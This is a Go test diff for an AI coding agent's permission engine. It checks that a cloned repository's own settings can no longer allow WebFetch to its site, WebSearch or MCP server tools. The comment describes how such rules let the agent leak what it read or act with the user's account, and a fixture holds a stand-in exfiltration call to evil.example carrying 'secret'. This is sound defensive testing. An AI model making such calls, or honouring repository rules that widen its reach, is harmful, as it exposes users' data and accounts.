@@ -311,3 +311,70 @@ func TestProjectLimitsNoLooserS61(t *testing.T) {
 		})
 	}
 }
+
+// TestProjectToolsBeyondS62: a cloned repository's own allow rules for
+// WebFetch of its site, WebSearch and an MCP server's tools had the agent
+// send what it read to that site, or act with the user's account through
+// the server, unasked through the hook: neither the engine nor the
+// sandbox bounds their reach by the project. A project's own file now
+// cannot allow them (one warning names the rules); its deny rules for
+// them, its rules for the project's commands, the user's rules and a
+// trusted project's apply as before.
+func TestProjectToolsBeyondS62(t *testing.T) {
+	t.Parallel()
+	const rules = "permissions:\n  allow: ['WebFetch(domain:evil.example)', WebSearch, mcp__github, 'Bash(npm test)']\n  deny: [mcp__shell]\n"
+	fetch := Call{Tool: "WebFetch", URL: "https://evil.example/?q=secret"}
+	search := Call{Tool: "WebSearch"}
+	issue := Call{Tool: "mcp__github__create_issue"}
+	shell := Call{Tool: "mcp__shell__run"}
+	test := Call{Tool: "Bash", Command: "npm test"}
+	tests := []struct {
+		name, where string
+		trust       bool
+		want        map[*Call]Decision
+		warn        string
+	}{
+		{"a project's own rules", "project", false,
+			map[*Call]Decision{&fetch: Ask, &search: Ask, &issue: Ask, &shell: Deny, &test: Allow},
+			"ignored permissions.allow WebFetch(domain:evil.example), permissions.allow WebSearch, permissions.allow mcp__github: a project's own file cannot allow tools that reach beyond the project"},
+		{"Claude Code's local file", "local", false,
+			map[*Call]Decision{&fetch: Ask, &search: Ask, &issue: Ask, &shell: Deny, &test: Allow},
+			"ignored permissions.allow WebFetch(domain:evil.example), permissions.allow WebSearch, permissions.allow mcp__github:"},
+		{"neighbour: a trusted project", "project", true,
+			map[*Call]Decision{&fetch: Allow, &search: Allow, &issue: Allow, &shell: Deny, &test: Allow}, ""},
+		{"neighbour: the user's rules", "user", false,
+			map[*Call]Decision{&fetch: Allow, &search: Allow, &issue: Allow, &shell: Deny, &test: Allow}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			d := testDiscovery(t)
+			switch tt.where {
+			case "project":
+				writeSettingsFile(t, d.Root, ".mewsandbox/settings.yaml", rules)
+			case "local":
+				writeSettingsFile(t, d.Root, ".claude/settings.local.json", `{"permissions": {"allow": ["WebFetch(domain:evil.example)", "WebSearch", "mcp__github", "Bash(npm test)"], "deny": ["mcp__shell"]}}`)
+			case "user":
+				writeSettingsFile(t, d.Home, ".config/mewsandbox/settings.yaml", rules)
+			}
+			d.TrustProject = tt.trust
+			c, err := Load(d)
+			if err != nil {
+				t.Fatal(err)
+			}
+			e := &Engine{Rules: c.Rules, Env: PathEnv{Cwd: d.Root, Root: d.Root, Home: d.Home}}
+			for call, want := range tt.want {
+				if got := e.Check(*call); got.Decision != want {
+					t.Errorf("%s %s%s: %v (%s), want %v", call.Tool, call.URL, call.Command, got.Decision, got.Reason, want)
+				}
+			}
+			warned := warningsOf(c.Warnings, "reach beyond the project", filepath.Dir(d.Root))
+			switch {
+			case tt.warn == "" && len(warned) > 0:
+				t.Errorf("warned %q, want nothing dropped", warned)
+			case tt.warn != "" && (len(warned) != 1 || !strings.Contains(warned[0], tt.warn)):
+				t.Errorf("warnings %q, want one holding %q", warned, tt.warn)
+			}
+		})
+	}
+}
